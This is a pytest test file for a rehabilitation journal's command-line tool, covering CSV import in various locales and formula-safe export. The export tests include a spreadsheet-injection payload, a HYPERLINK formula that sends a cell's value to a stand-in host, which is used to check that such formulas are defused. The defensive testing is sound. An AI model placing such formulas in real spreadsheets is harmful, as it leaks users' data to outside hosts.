"""Issue 17: spreadsheets from any locale (``;``, tab, decimal commas), formula-safe export
with an exact round trip, loose numbers and extreme dates (cases/formats/ and siblings)."""

from __future__ import annotations

import shutil
import sqlite3
from datetime import date
from pathlib import Path

import pytest

from rehabjournal import cli
from rehabjournal.services import journal as svc
from rehabjournal.store.db import close_journal, open_journal

CASES = Path("/work/shared/cases/formats")
HERE = Path(__file__).resolve().parent / "fixtures" / "formats"


@pytest.fixture(autouse=True)
def _closed():
    yield
    close_journal()


def case(name: str, tmp_path: Path) -> Path:
    """The shared case file (copied into the repository's fixtures for CI)."""
    src = HERE / name if (HERE / name).exists() else CASES / name
    return Path(shutil.copy(src, tmp_path / name))


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = cli.main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def write(tmp_path: Path, text: str, name: str = "f.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8"))
    return path


# ---- dialects ----------------------------------------------------------------------------

def test_semicolon_case_imports_with_sleep_7_5_and_names_the_dialect(tmp_path, capsys):
    f = case("semicolon.csv", tmp_path)
    code, out, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 0, err
    assert out == (f"Imported {f}: 2 days: 1 session added, 0 already in the journal, "
                   "2 check-ins written, 0 red flags added (read as semicolon-separated with "
                   "decimal commas).\n")
    open_journal(tmp_path / "d")
    assert svc.get_checkin(date(2026, 3, 2))["sleep_hours"] == 7.5
    assert svc.get_checkin(date(2026, 3, 2))["notes"] == "easy"
    assert [s["minutes"] for s in svc.list_sessions(date(2026, 3, 2))] == [30]


def test_tab_separated_file_imports(tmp_path, capsys):
    f = write(tmp_path, "date\tmorning_pain\tsleep_hours\tnotes\n2026-03-02\t3\t6,5\ta; b, c\n",
              "t.tsv")
    code, out, _ = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 0
    assert out.endswith("(read as tab-separated with decimal commas).\n")
    open_journal(tmp_path / "d")
    assert svc.get_checkin(date(2026, 3, 2))["sleep_hours"] == 6.5
    assert svc.get_checkin(date(2026, 3, 2))["notes"] == "a; b, c"


def test_semicolon_file_with_quoted_semicolons_and_decimal_points(tmp_path, capsys):
    f = write(tmp_path, 'date;sleep_hours;red_flags;notes\n'
                        '2026-03-02;7.5;"cannot_slr;calf_dvt";"stairs; then; rest"\n')
    code, out, _ = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 0
    assert out.endswith("2 red flags added (read as semicolon-separated).\n")
    open_journal(tmp_path / "d")
    assert svc.get_checkin(date(2026, 3, 2))["notes"] == "stairs; then; rest"
    assert svc.red_flags(date(2026, 3, 2)) == {"cannot_slr", "calf_dvt"}


def test_a_comma_file_with_semicolons_in_its_notes_stays_a_comma_file(tmp_path, capsys):
    f = write(tmp_path, "date,notes\n2026-03-02,a;b;c;d;e\n")
    code, out, _ = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 0 and "(read as comma-separated)" in out


def test_decimal_comma_in_a_comma_file_is_refused_with_a_hint(tmp_path, capsys):
    f = write(tmp_path, "date,morning_pain,sleep_hours,notes\n"
                        "2026-03-02,3,7,5,ok\n"
                        '2026-03-03,3,"6,5",ok\n')
    code, _, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 3
    lines = err.splitlines()
    assert lines[1] == ("line 2: 5 values but the header has 4 columns (a decimal comma? "
                        "“7,5” splits into two cells in a comma-separated file: write 7.5, or "
                        "use ; as the separator)")
    assert lines[2] == ("line 3, column sleep_hours: Sleep must be a number from 0 to 24 hours; "
                        "“6,5” is not a number here: write decimals with a point (6.5)")
    assert not (tmp_path / "d" / "journal.sqlite").exists() or _days(tmp_path / "d") == 0


def _days(data: Path) -> int:
    with sqlite3.connect(data / "journal.sqlite") as db:
        return db.execute("SELECT count(*) FROM check_in").fetchone()[0]


def test_mixed_separators_are_refused_naming_the_line(tmp_path, capsys):
    f = write(tmp_path, "date,morning_pain,notes\n2026-03-02,3,ok\n2026-03-03;2;bad\n")
    code, _, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 3
    assert err.splitlines()[1] == (
        "line 3: the row is separated by semicolons but the header by commas (1 value, the "
        "header has 3 columns); one file must use one separator")


def test_a_header_that_does_not_fit_says_what_was_found_and_expected(tmp_path, capsys):
    f = write(tmp_path, "Datum;Schmerz;Schlaf\n2026-03-02;3;7,5\n")
    code, _, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 3
    assert err.splitlines()[1] == (
        "line 1, column date: the header has no date column (read as semicolon-separated, "
        "found: Datum, Schmerz, Schlaf; expected column names separated by commas, "
        "semicolons or tabs, e.g. date,morning_pain,stiffness_min,swelling,sleep_hours,"
        "activity,...: see docs/csv-format.md)")


def test_a_bom_is_accepted_in_a_semicolon_file(tmp_path, capsys):
    f = tmp_path / "bom.csv"
    f.write_bytes(b"\xef\xbb\xbfdate;morning_pain\r\n2026-03-02;4\r\n")
    code, out, _ = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 0 and "(read as semicolon-separated)" in out


def test_export_semicolon_writes_decimal_commas_and_reads_back(tmp_path, capsys):
    f = case("semicolon.csv", tmp_path)
    run(capsys, "--data-dir", tmp_path / "d", "import", f)
    out = tmp_path / "out.csv"
    code, text, _ = run(capsys, "--data-dir", tmp_path / "d", "export", out,
                        "--delimiter", "semicolon")
    assert code == 0 and text == f"Exported 2 rows to {out}.\n"
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("date;morning_pain;stiffness_min;swelling;sleep_hours;")
    assert lines[1].startswith("2026-03-02;3;;;7,5;run;30;")
    default = tmp_path / "default.csv"
    run(capsys, "--data-dir", tmp_path / "d", "export", default)
    assert default.read_text(encoding="utf-8").splitlines()[1].startswith(
        "2026-03-02,3,,,7.5,run,30,")
    run(capsys, "--data-dir", tmp_path / "e", "import", out)
    again = tmp_path / "again.csv"
    run(capsys, "--data-dir", tmp_path / "e", "export", again)
    assert again.read_bytes() == default.read_bytes()


# ---- formula-safe export -----------------------------------------------------------------

def test_formulas_are_prefixed_on_export_and_the_round_trip_is_exact(tmp_path, capsys):
    f = case("formulas.csv", tmp_path)
    assert run(capsys, "--data-dir", tmp_path / "d", "import", f)[0] == 0
    first = tmp_path / "first.csv"
    run(capsys, "--data-dir", tmp_path / "d", "export", first)
    rows = first.read_text(encoding="utf-8").splitlines()
    assert rows[1] == ('2026-03-02,3,,,,run,30,,,,,2,,"\'=HYPERLINK(""http://example.invalid/'
                       '?d=""&A2,""click"")",,,,,\'+1 felt better')
    assert rows[2] == "2026-03-03,2,,,,'@SUM(1+1),20,,,,,,,'-2 after stretching,,,,,"
    assert run(capsys, "--data-dir", tmp_path / "e", "import", first)[0] == 0
    open_journal(tmp_path / "e")
    assert svc.get_checkin(date(2026, 3, 3))["notes"] == "-2 after stretching"
    assert svc.list_sessions(date(2026, 3, 3))[0]["kind"] == "@SUM(1+1)"
    assert svc.get_checkin(date(2026, 3, 2))["notes"].startswith("=HYPERLINK(")
    close_journal()
    second = tmp_path / "second.csv"
    run(capsys, "--data-dir", tmp_path / "e", "export", second)
    assert second.read_bytes() == first.read_bytes()


@pytest.mark.parametrize(("note", "written"), [
    ("'tis but a scratch", "'tis but a scratch"),        # a real apostrophe: kept as is
    ("'=not a formula", "''=not a formula"),              # one more, removed again on import
    ("-2 after stretching", "'-2 after stretching"),
    ("\tindented", "'\tindented"),
    ("\rodd", "'\rodd"),
    ("''+", "'''+"),
    ("'", "'"),
    ("plain", "plain"),
])
def test_apostrophes_round_trip_exactly(tmp_path, capsys, note, written):
    from rehabjournal.store.csv_io import formula_safe, unprefix
    assert formula_safe(note) == written
    assert unprefix(written) == note
    open_journal(tmp_path / "d")
    svc.save_checkin(date(2026, 3, 2), {"morning_pain": 2, "notes": note})
    close_journal()
    first = tmp_path / "first.csv"
    run(capsys, "--data-dir", tmp_path / "d", "export", first)
    assert run(capsys, "--data-dir", tmp_path / "e", "import", first)[0] == 0
    open_journal(tmp_path / "e")
    assert svc.get_checkin(date(2026, 3, 2))["notes"] == note
    close_journal()
    second = tmp_path / "second.csv"
    run(capsys, "--data-dir", tmp_path / "e", "export", second)
    assert second.read_bytes() == first.read_bytes()


# ---- loose numbers and extreme dates -----------------------------------------------------

@pytest.mark.parametrize(("cell", "why"), [
    ("1_0", "“1_0” is not a number: write it without underscores"),
    ("３", "“３” is not a number: use the digits 0-9"),
    ("٣", "“٣” is not a number: use the digits 0-9"),
    (" 1e3", "“1e3” is not a number here: write it without an exponent"),
    ("nan", "“nan” is not a number: only finite numbers are accepted"),
    ("inf", "“inf” is not a number: only finite numbers are accepted"),
])
def test_loose_numbers_are_refused_with_line_and_column(tmp_path, capsys, cell, why):
    f = write(tmp_path, f"date,morning_pain,stiffness_min\n2026-03-02,2,{cell}\n")
    code, _, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 3
    assert err.splitlines()[1] == ("line 2, column stiffness_min: Morning stiffness must be a "
                                   f"whole number from 0 to 1440 minutes; {why}")


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01", "1899-12-31", "2101-01-01"])
def test_extreme_dates_are_refused_with_the_line(tmp_path, capsys, day):
    f = write(tmp_path, f"date,morning_pain\n2026-03-02,2\n{day},3\n")
    code, _, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 3
    assert err.splitlines()[1] == (f"line 3, column date: {day} is outside the dates the "
                                   "journal accepts (1900-01-01 to 2100-12-31)")


def test_report_with_the_default_period_copes_with_extreme_rows(tmp_path, capsys):
    f = case("semicolon.csv", tmp_path)
    run(capsys, "--data-dir", tmp_path / "d", "import", f)
    with sqlite3.connect(tmp_path / "d" / "journal.sqlite") as db:  # as an old import left
        for day in ("9999-12-31", "0001-01-01"):
            db.execute("INSERT INTO check_in (day, morning_pain, notes, updated) "
                       "VALUES (?, 3, '', '2026-01-01 00:00:00')", (day,))
    pdf = tmp_path / "x.pdf"
    code, out, err = run(capsys, "--data-dir", tmp_path / "d", "report", "--out", pdf)
    assert code == 0, err
    assert "2026-02-04 to 2026-03-03" in out  # the last 4 weeks of the real entries
    assert pdf.read_bytes().startswith(b"%PDF")


# ---- review 1 of issue 17: sep= lines, unmarked UTF-16, capped warnings ---------------------

@pytest.mark.parametrize("sep, cells", [(";", "2026-03-02;3;7,5"), (",", "2026-03-02,3,7.5"),
                                        ("\t", "2026-03-02\t3\t7,5")])
def test_excels_sep_line_gives_the_separator_and_is_skipped(tmp_path, capsys, sep, cells):
    header = sep.join(["date", "morning_pain", "sleep_hours"])
    f = write(tmp_path, f"sep={sep}\r\n{header}\r\n{cells}\r\n")
    code, out, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 0, err
    open_journal(tmp_path / "d")
    assert svc.get_checkin(date(2026, 3, 2))["sleep_hours"] == 7.5


def test_lines_after_a_sep_line_keep_their_numbers(tmp_path, capsys):
    f = write(tmp_path, "sep=;\ndate;morning_pain\n2026-03-02;3\n2026-03-03;x\n")
    code, _, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 3
    assert "line 4, column morning_pain: Morning pain must be a whole number from 0 to 10; " \
           "“x” is not a number\n" in err
    open_journal(tmp_path / "d")
    assert svc.get_checkin(date(2026, 3, 2)) is None  # the journal is unchanged


@pytest.mark.parametrize("encoding, name", [("utf-16-le", "UTF-16"), ("utf-16-be", "UTF-16"),
                                            ("utf-32-le", "UTF-32")])
def test_utf16_without_a_bom_is_named(tmp_path, capsys, encoding, name):
    f = tmp_path / "u.csv"
    f.write_bytes("date,morning_pain\n2026-03-02,3\n".encode(encoding))
    code, _, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 3
    assert f"line 1: the file is {name} text without a byte-order mark; save it as CSV " \
           "UTF-8\n" in err
    open_journal(tmp_path / "d")
    assert svc.get_checkin(date(2026, 3, 2)) is None


def test_warnings_are_capped(tmp_path, capsys):
    header = ",".join(["date", "morning_pain", *(f"c{i}" for i in range(500))])
    f = write(tmp_path, f"{header}\n2026-03-02,3{',' * 500}\n")
    code, _, err = run(capsys, "--data-dir", tmp_path / "d", "import", f)
    assert code == 0
    lines = err.splitlines()
    assert len(lines) == 21
    assert lines[0] == "rehabjournal: warning: line 1, column c0: unknown column, ignored"
    assert lines[-1] == "rehabjournal: warning: and 480 more warnings"
